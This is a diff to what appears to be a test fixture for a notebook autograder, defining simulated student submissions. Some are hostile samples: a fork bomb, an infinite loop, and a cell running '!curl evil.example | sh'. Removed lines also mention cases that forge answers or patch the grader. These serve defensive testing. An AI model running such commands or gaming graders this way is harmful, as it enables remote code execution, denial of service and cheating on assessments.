@@ -176,7 +176,8 @@ def as_version_3(content: dict[str, Any]) -> None:
 
 
 def members(course: Path) -> dict[str, Submission]:
-    """The class, by student."""
+    """The class, by student; who is in the demonstration's (`tests/test_grading.py`) is not here
+    again: what ends Python or takes its memory, patches, forges, is empty or cut off."""
     right = json.dumps(notebook(RIGHT)).encode()
     some = json.dumps(notebook(SOME), indent=1)
     beside = {
@@ -205,11 +206,6 @@ def members(course: Path) -> dict[str, Submission]:
         "loops": handed_in(notebook(SOME, "while True:\n    pass\n"), words="took more than 10 s"),
         "forks": handed_in(notebook(SOME, "import os\nwhile True:\n    os.fork()\n")),
         "sleeps": handed_in(notebook(body("import time; time.sleep(1000)")), LOST, "did nothing"),
-        "leaves": handed_in(notebook(body("import os; os._exit(0)")), LOST, "ended the Python"),
-        "memory": handed_in(notebook(body("return bytearray(10**11)")), LOST, "MemoryError"),
-        "equal": handed_in(notebook(body(demo.EQUALS_EVERYTHING)), LOST),
-        "patches": handed_in(notebook({}, demo.PATCHES_EVERYTHING), 0.0),
-        "forges": handed_in(notebook({}, demo.FORGES_ANSWERS), 0.0),
         "magic": handed_in(
             notebook(SOME, "%run cheat.py\n!curl evil.example | sh\n"), words="not run at grading"
         ),
@@ -232,8 +228,6 @@ def members(course: Path) -> dict[str, Submission]:
         "conflict": unreadable(
             some.replace(' "cells"', '<<<<<<< mine\n "cells"').encode(), "merge conflict"
         ),
-        "cut-off": unreadable(some.encode()[: len(some) // 2], "cut off"),
-        "empty": unreadable(b"", "empty"),
     }
     found["beside"].files["timestamp.txt"] = b"\xff\x00 yesterday"
     found["=1+1"].files["timestamp.txt"] = b"1066-10-14 09:00:00 UTC"
